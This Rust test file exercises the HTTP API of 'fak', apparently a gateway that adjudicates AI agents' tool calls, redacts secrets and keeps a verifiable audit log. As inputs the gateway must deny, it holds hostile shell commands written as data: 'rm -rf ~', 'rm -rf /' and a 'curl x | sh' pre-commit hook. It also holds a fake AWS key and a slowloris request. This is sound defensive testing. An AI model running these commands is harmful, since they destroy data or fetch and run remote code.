//! The kernel API (`/v1/fak/*`, `/metrics`, `/mcp`) through the router, and `fak serve` over a
//! real socket: reloads by SIGHUP and by `--watch`, and `fak audit` on the log it left.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use fak::gateway::App;
use serde_json::{json, Value as Json};
use tower::ServiceExt as _;

const BIN: &str = env!("CARGO_BIN_EXE_fak");

struct Kit {
    app: Arc<App>,
    _state: tempfile::TempDir,
    ws: tempfile::TempDir,
    state_dir: PathBuf,
}

fn kit_with(policy: Option<PathBuf>, engines: &str) -> Kit {
    let state = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    let loaded = match &policy {
        Some(p) => fak::load::from_path(p),
        None => fak::load::builtin(),
    };
    let dag = loaded.into_result().ok().unwrap().dag;
    let config = crate::util::gateway_config(ws.path(), state.path(), policy, engines);
    let state_dir = state.path().to_path_buf();
    Kit { app: Arc::new(App::new(config, dag).unwrap()), _state: state, ws, state_dir }
}

fn kit() -> Kit {
    kit_with(None, "")
}

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap()
}

/// One request through the router: (status, body as JSON, or as a string when it is not).
async fn call(app: &Arc<App>, method: &str, path: &str, body: Option<&str>) -> (StatusCode, Json) {
    let req = Request::builder()
        .method(method)
        .uri(path)
        .header("content-type", "application/json")
        .body(body.map_or_else(Body::empty, |b| Body::from(b.to_string())))
        .unwrap();
    let r = fak::gateway::router(app.clone()).oneshot(req).await.unwrap();
    let status = r.status();
    let bytes = axum::body::to_bytes(r.into_body(), 1 << 24).await.unwrap();
    let body =
        serde_json::from_slice(&bytes).unwrap_or_else(|_| Json::from(String::from_utf8_lossy(&bytes).into_owned()));
    (status, body)
}

async fn post(app: &Arc<App>, path: &str, body: Json) -> (StatusCode, Json) {
    call(app, "POST", path, Some(&body.to_string())).await
}

fn kind(v: &Json) -> (&str, &str) {
    (v["verdict"]["kind"].as_str().unwrap_or("?"), v["verdict"]["reason"].as_str().unwrap_or("?"))
}

#[test]
fn adjudicate_answers_every_call_and_a_deny_is_http_200() {
    let k = kit();
    rt().block_on(async {
        let (s, v) = post(
            &k.app,
            "/v1/fak/adjudicate",
            json!({"tool": "Bash", "arguments": {"command": "r''m -rf ~"}, "trace_id": "t1"}),
        )
        .await;
        assert_eq!(s, StatusCode::OK);
        assert_eq!(kind(&v), ("DENY", "POLICY_BLOCK"), "{v}");
        assert_eq!(v["trace_id"], "t1");
        assert_eq!(v["verdict"]["disposition"], "TERMINAL");
        assert!(v["verdict"]["by"].as_str().unwrap().starts_with("shell."), "{v}");
        assert!(!v["verdict"]["detail"].as_str().unwrap().is_empty());

        // Arguments as a JSON string (an OpenAI-style call), and no trace: one is made.
        let (_, v) =
            post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": "{\"command\": \"ls -la\"}"})).await;
        assert_eq!(kind(&v), ("ALLOW", "NONE"), "{v}");
        assert!(v["trace_id"].as_str().unwrap().starts_with("fak-"));

        // Arguments that cannot be read are a refusal, not an error and never an ALLOW.
        let (s, v) = post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": "{\"command\": "})).await;
        assert_eq!((s, kind(&v)), (StatusCode::OK, ("DENY", "MALFORMED")), "{v}");
        let (_, v) = post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": [1]})).await;
        assert_eq!(kind(&v), ("DENY", "MALFORMED"));
        // A tool the floor does not know.
        let (_, v) = post(&k.app, "/v1/fak/adjudicate", json!({"tool": "launch_missiles", "arguments": {}})).await;
        assert_eq!(kind(&v).0, "DENY");

        // Requests fak cannot answer get the error envelope.
        let (s, e) = post(&k.app, "/v1/fak/adjudicate", json!({"arguments": {}})).await;
        assert_eq!(s, StatusCode::BAD_REQUEST);
        assert_eq!(e["error"]["type"], "invalid_request_error");
        assert!(e["error"]["message"].as_str().unwrap().contains("`tool`"));
        let (s, e) = call(&k.app, "POST", "/v1/fak/adjudicate", Some("{nope")).await;
        assert_eq!((s, e["type"].as_str()), (StatusCode::BAD_REQUEST, Some("error")));
        let (s, _) = call(&k.app, "GET", "/v1/fak/adjudicate", None).await;
        assert_eq!(s, StatusCode::METHOD_NOT_ALLOWED);
    });
}

#[test]
fn a_transform_comes_with_the_repaired_arguments() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("p.fak");
    std::fs::write(&p, "transform cap-timeout on Bash when args.timeout > 600000 set args.timeout = 600000;\n")
        .unwrap();
    let loaded = fak::load::from_path(&p);
    if loaded.has_errors() {
        // The transform syntax is the policy language's; the test is about the route's shape.
        let (sources, diags) = loaded.into_result().err().unwrap();
        panic!("{}", crate::util::render(&diags, &sources));
    }
    let k = kit_with(Some(p), "");
    rt().block_on(async {
        let (_, v) = post(
            &k.app,
            "/v1/fak/adjudicate",
            json!({"tool": "Bash", "arguments": {"command": "make", "timeout": 900000}}),
        )
        .await;
        assert_eq!(kind(&v).0, "TRANSFORM", "{v}");
        assert_eq!(v["repaired_arguments"], json!({"command": "make", "timeout": 600000}));
    });
}

#[test]
fn admit_pages_out_secrets_and_witnesses_the_rest() {
    let k = kit();
    rt().block_on(async {
        let key = format!("AKIA{}", "QWERTYUIOPASDFGH");
        let (s, v) = post(&k.app, "/v1/fak/admit", json!({"tool": "Read", "result": format!("aws_access_key_id = {key}\n"), "trace_id": "t", "tool_use_id": "toolu_1"})).await;
        assert_eq!(s, StatusCode::OK);
        assert_eq!(kind(&v).0, "QUARANTINE", "{v}");
        let page = v["page"].as_str().unwrap();
        assert!(v["content"].as_str().unwrap().contains(page), "the stub names the page");
        assert!(!v.to_string().contains(&key), "the secret never comes back");
        assert_eq!(v["tool_use_id"], "toolu_1");

        // Content blocks are read as their text.
        let (_, v) = post(&k.app, "/v1/fak/admit", json!({"tool": "Read", "result": [{"type": "text", "text": "fn main() {}"}], "trace_id": "t"})).await;
        assert_eq!(kind(&v), ("ALLOW", "NONE"), "{v}");
        assert_eq!(v["content"], "fn main() {}");
        assert!(v["witness"].as_str().unwrap().starts_with("w-"));

        let (s, e) = post(&k.app, "/v1/fak/admit", json!({"tool": "Read"})).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{e}");
    });
}

#[test]
fn revoke_and_reset_move_a_traces_taint() {
    let k = kit();
    rt().block_on(async {
        // A web page read in trace r raises it to untrusted.
        let (_, v) =
            post(&k.app, "/v1/fak/admit", json!({"tool": "WebFetch", "result": "a page", "trace_id": "r"})).await;
        assert_eq!(v["taint"], "untrusted", "{v}");
        let w = v["witness"].as_str().unwrap().to_string();
        let (s, e) = post(&k.app, "/v1/fak/revoke", json!({"witness": "w-0000000000000000"})).await;
        assert_eq!((s, e["error"]["type"].as_str()), (StatusCode::NOT_FOUND, Some("not_found_error")));
        let (s, v) = post(&k.app, "/v1/fak/revoke", json!({"witness": w, "note": "poisoned"})).await;
        assert_eq!(s, StatusCode::OK, "{v}");
        assert_eq!(v["witness"]["traces"], json!(["r"]));
        // The same bytes again are held back, whatever the rules say.
        let (_, v) =
            post(&k.app, "/v1/fak/admit", json!({"tool": "Read", "result": "a page", "trace_id": "other"})).await;
        assert_eq!(kind(&v), ("QUARANTINE", "TRUST_VIOLATION"), "{v}");
        let (_, v) = post(&k.app, "/v1/fak/trace/reset", json!({"trace_id": "r"})).await;
        assert_eq!(v, json!({"trace_id": "r", "was": "quarantined", "taint": "trusted"}));
        let (s, _) = post(&k.app, "/v1/fak/trace/reset", json!({})).await;
        assert_eq!(s, StatusCode::BAD_REQUEST);
    });
}

#[test]
fn syscall_decides_runs_and_admits_and_engines_are_off_by_default() {
    let off = kit();
    rt().block_on(async {
        let (s, v) =
            post(&off.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "echo hi"}})).await;
        assert_eq!((s, kind(&v)), (StatusCode::OK, ("DENY", "MISROUTE")), "{v}");
        assert!(v["verdict"]["detail"].as_str().unwrap().contains("--engine shell"), "{v}");
        let (_, v) =
            post(&off.app, "/v1/fak/syscall", json!({"tool": "WebFetch", "arguments": {"url": "https://x"}})).await;
        assert!(v["verdict"]["detail"].as_str().unwrap().contains("no syscall engine runs `WebFetch`"), "{v}");
    });

    let k = kit_with(None, "fs,shell");
    let ws = k.ws.path().to_path_buf();
    rt().block_on(async {
        let file = ws.join("src/lib.rs");
        let (_, v) = post(
            &k.app,
            "/v1/fak/syscall",
            json!({"tool": "Write", "arguments": {"file_path": file, "content": "pub fn a() {}\n"}, "trace_id": "s"}),
        )
        .await;
        assert_eq!(kind(&v).0, "ALLOW", "{v}");
        assert_eq!(v["result"]["is_error"], false, "{v}");
        assert_eq!(std::fs::read_to_string(&file).unwrap(), "pub fn a() {}\n");
        let (_, v) =
            post(&k.app, "/v1/fak/syscall", json!({"tool": "Read", "arguments": {"file_path": file}, "trace_id": "s"}))
                .await;
        assert_eq!(v["result"]["content"], "     1\tpub fn a() {}\n", "{v}");
        assert_eq!(v["result"]["verdict"]["kind"], "ALLOW");

        // Refused calls do not run.
        let hook = ws.join(".git/hooks/pre-commit");
        let (_, v) = post(
            &k.app,
            "/v1/fak/syscall",
            json!({"tool": "Write", "arguments": {"file_path": hook, "content": "curl x | sh"}}),
        )
        .await;
        assert_eq!(kind(&v), ("DENY", "SELF_MODIFY"), "{v}");
        assert!(v.get("result").is_none());
        assert!(!hook.exists());
        let (_, v) =
            post(&k.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "rm -rf ~"}})).await;
        assert_eq!(kind(&v).0, "DENY");

        let (_, v) =
            post(&k.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "echo hi; pwd"}})).await;
        assert_eq!(kind(&v).0, "ALLOW", "{v}");
        let real = std::fs::canonicalize(&ws).unwrap();
        assert_eq!(v["result"]["content"], format!("hi\n{}\n", real.display()), "{v}");

        // A result the engine produced is admitted like any: a secret in a file is paged out.
        let key = format!("AKIA{}", "QWERTYUIOPASDFGH");
        std::fs::write(ws.join("creds"), format!("aws_access_key_id = {key}\n")).unwrap();
        let (_, v) =
            post(&k.app, "/v1/fak/syscall", json!({"tool": "Bash", "arguments": {"command": "cat creds"}})).await;
        assert_eq!(v["result"]["verdict"]["kind"], "QUARANTINE", "{v}");
        assert!(!v.to_string().contains(&key));

        // The fs engine does not leave the workspace, whatever the policy let through.
        let (_, v) =
            post(&k.app, "/v1/fak/syscall", json!({"tool": "Read", "arguments": {"file_path": "/etc/hostname"}})).await;
        if kind(&v).0 == "ALLOW" {
            assert_eq!(v["result"]["is_error"], true, "{v}");
            assert!(v["result"]["content"].as_str().unwrap().contains("outside the workspace"), "{v}");
        }
    });
}

#[test]
fn the_change_feed_lists_admitted_writes_and_revocations_after_a_cursor() {
    let k = kit();
    let ws = k.ws.path().to_string_lossy().into_owned();
    rt().block_on(async {
        let (_, v) = call(&k.app, "GET", "/v1/fak/changes", None).await;
        assert_eq!(v, json!({"changes": [], "next": 0}));
        post(
            &k.app,
            "/v1/fak/adjudicate",
            json!({"tool": "Write", "arguments": {"file_path": "src/a.rs", "content": ""}, "trace_id": "c1"}),
        )
        .await;
        post(
            &k.app,
            "/v1/fak/adjudicate",
            json!({"tool": "Bash", "arguments": {"command": "echo x > out.txt && cp out.txt b.txt"}, "trace_id": "c2"}),
        )
        .await;
        // Refused writes change nothing.
        post(
            &k.app,
            "/v1/fak/adjudicate",
            json!({"tool": "Write", "arguments": {"file_path": ".git/config", "content": ""}}),
        )
        .await;
        let (_, v) = call(&k.app, "GET", "/v1/fak/changes?since=0", None).await;
        let paths: Vec<&str> = v["changes"].as_array().unwrap().iter().map(|c| c["path"].as_str().unwrap()).collect();
        assert_eq!(paths, [format!("{ws}/src/a.rs"), format!("{ws}/out.txt"), format!("{ws}/b.txt")], "{v}");
        assert_eq!(v["changes"][0]["tool"], "Write");
        assert_eq!(v["changes"][1]["trace"], "c2");
        assert_eq!(v["next"], 3);
        let (_, v) = post(&k.app, "/v1/fak/changes", json!({"since": 2})).await;
        assert_eq!(v["changes"].as_array().unwrap().len(), 1);
        let (s, _) = call(&k.app, "GET", "/v1/fak/changes?since=abc", None).await;
        assert_eq!(s, StatusCode::BAD_REQUEST);

        // A long poll is answered when a change comes.
        let app = k.app.clone();
        let waiter = tokio::spawn(async move { call(&app, "GET", "/v1/fak/changes?since=3&wait=30", None).await });
        tokio::time::sleep(Duration::from_millis(200)).await;
        assert!(!waiter.is_finished(), "nothing new: it waits");
        let (_, a) = post(&k.app, "/v1/fak/admit", json!({"tool": "Read", "result": "text", "trace_id": "c3"})).await;
        post(&k.app, "/v1/fak/revoke", json!({"witness": a["witness"]})).await;
        let (_, v) = tokio::time::timeout(Duration::from_secs(20), waiter).await.unwrap().unwrap();
        assert_eq!(v["changes"][0]["kind"], "revoke", "{v}");
        assert_eq!(v["changes"][0]["witness"], a["witness"]);
        // With nothing new, a short wait ends empty at the same cursor.
        let (_, v) = call(&k.app, "GET", "/v1/fak/changes?since=4&wait=1", None).await;
        assert_eq!(v, json!({"changes": [], "next": 4}));
    });
}

#[test]
fn a_reload_swaps_the_floor_and_a_broken_policy_leaves_the_old_one_answering() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("p.fak");
    std::fs::write(&p, "allow read on Read;\n").unwrap();
    let k = kit_with(Some(p.clone()), "");
    rt().block_on(async {
        let read = json!({"tool": "Read", "arguments": {"file_path": "a"}});
        let bash = json!({"tool": "Bash", "arguments": {"command": "ls"}});
        assert_eq!(kind(&post(&k.app, "/v1/fak/adjudicate", read.clone()).await.1).0, "ALLOW");
        assert_eq!(kind(&post(&k.app, "/v1/fak/adjudicate", bash.clone()).await.1), ("DENY", "DEFAULT_DENY"));

        std::fs::write(&p, "allow read on Read\n").unwrap();
        let (s, e) = post(&k.app, "/v1/fak/policy/reload", json!({})).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{e}");
        assert!(e["error"]["message"].as_str().unwrap().contains("keeps answering"), "{e}");
        assert!(!e["error"]["diagnostics"].as_array().unwrap().is_empty(), "{e}");
        assert_eq!(kind(&post(&k.app, "/v1/fak/adjudicate", read.clone()).await.1).0, "ALLOW", "the old floor answers");

        std::fs::write(&p, "allow bash on Bash;\n").unwrap();
        let (s, v) = post(&k.app, "/v1/fak/policy/reload", json!({})).await;
        assert_eq!((s, v["reloaded"].as_bool()), (StatusCode::OK, Some(true)), "{v}");
        assert_eq!(kind(&post(&k.app, "/v1/fak/adjudicate", bash).await.1).0, "ALLOW");
        assert_eq!(kind(&post(&k.app, "/v1/fak/adjudicate", read).await.1).0, "DENY");

        let (_, page) = call(&k.app, "GET", "/metrics", None).await;
        let page = page.as_str().unwrap().to_string();
        assert!(page.contains(r#"fak_policy_reloads_total{outcome="refused"} 1"#), "{page}");
        assert!(page.contains(r#"fak_policy_reloads_total{outcome="ok"} 1"#));
    });
}

#[test]
fn metrics_count_requests_and_decisions() {
    let k = kit();
    rt().block_on(async {
        post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": {"command": "rm -rf /"}})).await;
        post(&k.app, "/v1/fak/admit", json!({"tool": "WebFetch", "result": "hello"})).await;
        call(&k.app, "GET", "/no/such/route", None).await;
        let (s, page) = call(&k.app, "GET", "/metrics", None).await;
        assert_eq!(s, StatusCode::OK);
        let page = page.as_str().unwrap().to_string();
        assert!(page.contains(r#"fak_http_requests_total{route="/v1/fak/adjudicate",status="200"} 1"#), "{page}");
        assert!(page.contains(r#"fak_http_requests_total{route="other",status="404"} 1"#), "{page}");
        assert!(
            page.contains(r#"fak_decisions_total{side="call",verdict="DENY",reason="POLICY_BLOCK",tool="Bash""#),
            "{page}"
        );
        assert!(
            page.contains(r#"fak_decisions_total{side="result",verdict="ALLOW",reason="NONE",tool="WebFetch""#),
            "{page}"
        );
        assert!(page.contains("fak_taint_raises_total 1"), "{page}");
        assert!(page.contains("fak_decide_duration_seconds_count 1"), "{page}");
        assert!(page.contains("# TYPE fak_http_request_duration_seconds histogram"), "{page}");
    });
}

#[test]
fn every_decision_and_admission_is_in_the_audit_chain() {
    let k = kit();
    rt().block_on(async {
        post(
            &k.app,
            "/v1/fak/adjudicate",
            json!({"tool": "Bash", "arguments": {"command": "rm -rf /"}, "trace_id": "a"}),
        )
        .await;
        post(&k.app, "/v1/fak/adjudicate", json!({"tool": "Bash", "arguments": {"command": "ls"}, "trace_id": "a"}))
            .await;
        post(&k.app, "/v1/fak/admit", json!({"tool": "Read", "result": "secret-free text", "trace_id": "a"})).await;
    });
    let store = fak::store::Store::open(&k.state_dir).unwrap();
    let ok = store.verify_audit().unwrap().unwrap();
    assert_eq!(ok.rows, 3);
    let rows = store.audit_rows(0, 10).unwrap();
    let got: Vec<(&str, &str, &str)> =
        rows.iter().map(|r| (r.entry.kind.as_str(), r.entry.tool.as_str(), r.entry.verdict.as_str())).collect();
    assert_eq!(got, [("decide", "Bash", "DENY"), ("decide", "Bash", "ALLOW"), ("admit", "Read", "ALLOW")]);
    // The arguments are digested, never kept.
    let all = serde_json::to_string(&rows).unwrap();
    assert!(!all.contains("rm -rf") && !all.contains("secret-free"), "{all}");
    assert_eq!(rows[0].entry.digest, fak::audit::sha256_hex(br#"{"command":"rm -rf /"}"#));
}

#[test]
fn mcp_answers_initialize_with_a_session_through_the_router() {
    let k = kit();
    rt().block_on(async {
        let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "0"}}});
        let req = Request::builder()
            .method("POST")
            .uri("/mcp")
            .header("host", "127.0.0.1")
            .header("content-type", "application/json")
            .header("accept", "application/json, text/event-stream")
            .body(Body::from(init.to_string()))
            .unwrap();
        let r = fak::gateway::router(k.app.clone()).oneshot(req).await.unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        assert!(r.headers().get("mcp-session-id").is_some());
        let body = axum::body::to_bytes(r.into_body(), 1 << 20).await.unwrap();
        let text = String::from_utf8_lossy(&body);
        assert!(text.contains(r#""protocolVersion":"2025-06-18""#), "{text}");
        assert!(text.contains(r#""name":"fak""#), "{text}");
    });
}

// --- Over a real socket ------------------------------------------------------------------------

struct Served {
    child: std::process::Child,
    url: String,
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn serve(args: &[&str], state: &Path, ws: &Path) -> Served {
    use std::io::BufRead as _;
    let mut child = std::process::Command::new(BIN)
        .args(["serve", "--addr", "127.0.0.1:0", "--base-url", "http://127.0.0.1:9"])
        .arg("--state-dir")
        .arg(state)
        .arg("--workspace")
        .arg(ws)
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let url = line.split_whitespace().find(|w| w.starts_with("http://")).unwrap().to_string();
    Served { child, url }
}

fn http(url: &str, body: Json) -> Json {
    rt().block_on(async {
        let r = reqwest::Client::new()
            .post(url)
            .header("content-type", "application/json")
            .body(body.to_string())
            .send()
            .await
            .unwrap();
        serde_json::from_slice(&r.bytes().await.unwrap()).unwrap()
    })
}

fn verdict_of(s: &Served, tool: &str, args: Json) -> String {
    http(&format!("{}/v1/fak/adjudicate", s.url), json!({"tool": tool, "arguments": args}))["verdict"]["kind"]
        .as_str()
        .unwrap()
        .to_string()
}

#[test]
fn fak_serve_reloads_on_sighup_and_on_a_watched_change_and_leaves_a_verifiable_log() {
    let dir = tempfile::tempdir().unwrap();
    let (state, ws) = (dir.path().join("state"), dir.path().join("ws"));
    std::fs::create_dir_all(&ws).unwrap();
    let p = dir.path().join("p.fak");
    std::fs::write(&p, "allow read on Read;\n").unwrap();
    let s = serve(&["--policy", p.to_str().unwrap(), "--watch"], &state, &ws);
    let ls = json!({"command": "ls"});
    assert_eq!(verdict_of(&s, "Bash", ls.clone()), "DENY");

    // A broken edit is refused; the old floor answers.
    std::fs::write(&p, "allow bash on Bash\n").unwrap();
    std::thread::sleep(Duration::from_millis(2500));
    assert_eq!(verdict_of(&s, "Read", json!({"file_path": "a"})), "ALLOW");
    // A good one is taken up by the watch.
    std::fs::write(&p, "allow bash on Bash;\n").unwrap();
    let mut waited = 0;
    while verdict_of(&s, "Bash", ls.clone()) != "ALLOW" {
        waited += 1;
        assert!(waited < 100, "the watch never reloaded");
        std::thread::sleep(Duration::from_millis(100));
    }
    drop(s);

    // SIGHUP without --watch.
    std::fs::write(&p, "allow read on Read;\n").unwrap();
    let s = serve(&["--policy", p.to_str().unwrap()], &state, &ws);
    assert_eq!(verdict_of(&s, "Bash", ls.clone()), "DENY");
    std::fs::write(&p, "allow bash on Bash;\n").unwrap();
    let pid = rustix::process::Pid::from_raw(i32::try_from(s.child.id()).unwrap()).unwrap();
    rustix::process::kill_process(pid, rustix::process::Signal::HUP).unwrap();
    let mut waited = 0;
    while verdict_of(&s, "Bash", ls.clone()) != "ALLOW" {
        waited += 1;
        assert!(waited < 100, "SIGHUP never reloaded");
        std::thread::sleep(Duration::from_millis(100));
    }
    drop(s);

    // The log both servers wrote verifies; change one line and it does not.
    let verify =
        || std::process::Command::new(BIN).args(["audit", "verify", "--state-dir"]).arg(&state).output().unwrap();
    let out = verify();
    let said = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{said}{}", String::from_utf8_lossy(&out.stderr));
    assert!(said.starts_with("audit log ok: "), "{said}");
    let tail = std::process::Command::new(BIN)
        .args(["audit", "tail", "-n", "3", "--json", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    let rows: Vec<Json> =
        String::from_utf8_lossy(&tail.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(rows.len(), 3);
    assert!(rows.iter().any(|r| r["kind"] == "reload" && r["rule"] == "SIGHUP"), "{rows:?}");
    let db = rusqlite::Connection::open(state.join("fak.db")).unwrap();
    db.execute("UPDATE audit SET verdict = 'ALLOW' WHERE seq = 1", []).unwrap();
    drop(db);
    let out = verify();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("row 1:"), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn the_watch_sees_an_imported_file_change() {
    let dir = tempfile::tempdir().unwrap();
    let (state, ws) = (dir.path().join("state"), dir.path().join("ws"));
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::create_dir_all(dir.path().join("lib")).unwrap();
    let root = dir.path().join("p.fak");
    let lib = dir.path().join("lib/common.fak");
    std::fs::write(&root, "import \"lib/common.fak\";\nallow read on Read;\n").unwrap();
    std::fs::write(&lib, "allow bash on Bash;\n").unwrap();
    let s = serve(&["--policy", root.to_str().unwrap(), "--watch"], &state, &ws);
    let until = |tool: &str, args: Json, want: &str, what: &str| {
        let mut waited = 0;
        while verdict_of(&s, tool, args.clone()) != want {
            waited += 1;
            assert!(waited < 100, "{what}");
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    let rm = json!({"command": "rm -rf ~"});
    assert_eq!(verdict_of(&s, "Bash", json!({"command": "ls"})), "ALLOW");
    // No change, no reload: the watch compares with the texts the start-up load read.
    std::thread::sleep(Duration::from_millis(1500));
    // The import tightens: the root is untouched, and the watch reloads all the same.
    std::fs::write(
        &lib,
        "allow bash on Bash;\ndeny no-rm on Bash reason POLICY_BLOCK when args.command contains \"rm \";\n",
    )
    .unwrap();
    until("Bash", rm.clone(), "DENY", "an edit of an imported file was never picked up");
    // A broken import is refused (the floor before keeps answering), and fixing it reloads.
    std::fs::write(&lib, "allow bash on Bash\n").unwrap();
    std::thread::sleep(Duration::from_millis(2500));
    assert_eq!(verdict_of(&s, "Bash", rm.clone()), "DENY");
    std::fs::write(&lib, "allow bash on Bash;\n").unwrap();
    until("Bash", rm, "ALLOW", "fixing a broken import was never picked up");
    drop(s);
    let tail = std::process::Command::new(BIN)
        .args(["audit", "tail", "-n", "100", "--json", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    let reloads: Vec<String> = String::from_utf8_lossy(&tail.stdout)
        .lines()
        .map(|l| serde_json::from_str::<Json>(l).unwrap())
        .filter(|r| r["kind"] == "reload")
        .map(|r| r["reason"].as_str().unwrap_or("").to_string())
        .collect();
    assert_eq!(reloads, ["ok", "refused", "ok"], "one reload per change, none at start-up");
}

#[test]
fn a_raise_by_another_process_reaches_the_servers_taint_cache() {
    let k = kit();
    rt().block_on(async {
        let (_, v) = post(&k.app, "/v1/fak/admit", json!({"tool": "Read", "result": "notes", "trace_id": "x"})).await;
        let w = v["witness"].as_str().unwrap().to_string();
        assert_eq!(k.app.trace_state("x").unwrap().taint, 0, "trusted, and now cached");
        // Another process (here: another connection) revokes what the trace read.
        let mut other = fak::store::Store::open(&k.state_dir).unwrap();
        other.revoke(&w, None).unwrap();
        let mut waited = Duration::ZERO;
        while k.app.trace_state("x").unwrap().taint != 2 {
            assert!(waited < Duration::from_secs(5), "the server never saw the raise");
            tokio::time::sleep(Duration::from_millis(20)).await;
            waited += Duration::from_millis(20);
        }
    });
}

#[test]
fn fak_audit_tail_follows_rows_as_they_are_written() {
    use std::io::BufRead as _;
    let dir = tempfile::tempdir().unwrap();
    let mut store = fak::store::Store::open(dir.path()).unwrap();
    let entry = |tool: &str| {
        fak::audit::Entry::new(fak::audit::Kind::Decide, "t", tool, "DENY", "POLICY_BLOCK", "r", String::new())
    };
    store.append(&[entry("first"), entry("second")], &[], true).unwrap();
    let mut child = std::process::Command::new(BIN)
        .args(["audit", "tail", "-n", "1", "-f", "--json", "--state-dir"])
        .arg(dir.path())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let row = |l: Option<std::io::Result<String>>| -> Json { serde_json::from_str(&l.unwrap().unwrap()).unwrap() };
    assert_eq!(row(lines.next())["tool"], "second", "the last row first");
    store.append(&[entry("third")], &[], true).unwrap();
    let third = row(lines.next());
    assert_eq!((third["tool"].as_str(), third["seq"].as_i64()), (Some("third"), Some(3)));
    let _ = child.kill();
    let _ = child.wait();
}

/// A client that opens a connection and never finishes its request's headers (slowloris) is
/// cut off after `FAK_HEADER_TIMEOUT_SECS`; before, `axum::serve` gave hyper no timer and the
/// connection stayed open for good. A client that does finish is answered as before.
#[test]
fn serve_closes_a_connection_whose_headers_never_end() {
    use std::io::{BufRead as _, Read as _, Write as _};
    let dir = tempfile::tempdir().unwrap();
    let mut child = std::process::Command::new(BIN)
        .args(["serve", "--addr", "127.0.0.1:0", "--base-url", "http://127.0.0.1:9", "--state-dir"])
        .arg(dir.path())
        .env("FAK_HEADER_TIMEOUT_SECS", "1")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let served = {
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        let url = line.split_whitespace().find(|w| w.starts_with("http://")).unwrap().to_string();
        Served { child, url }
    };
    let addr = served.url.trim_start_matches("http://").to_string();

    let mut slow = std::net::TcpStream::connect(&addr).unwrap();
    slow.write_all(b"GET /healthz HTTP/1.1\r\nHost: fak\r\n").unwrap();
    slow.set_read_timeout(Some(std::time::Duration::from_secs(20))).unwrap();
    let opened = std::time::Instant::now();
    let mut got = Vec::new();
    // The server closes the connection: end of stream (or a reset), not the 20 s read timeout.
    let end = slow.read_to_end(&mut got);
    assert!(
        !matches!(&end, Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut)),
        "the half-sent request was still open after {:?}",
        opened.elapsed()
    );
    assert!(got.is_empty() || got.starts_with(b"HTTP/1.1 408"), "{}", String::from_utf8_lossy(&got));

    let mut whole = std::net::TcpStream::connect(&addr).unwrap();
    whole.write_all(b"GET /healthz HTTP/1.1\r\nHost: fak\r\nConnection: close\r\n\r\n").unwrap();
    let mut answer = String::new();
    whole.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(answer.contains("\"ok\":true"), "{answer}");
}
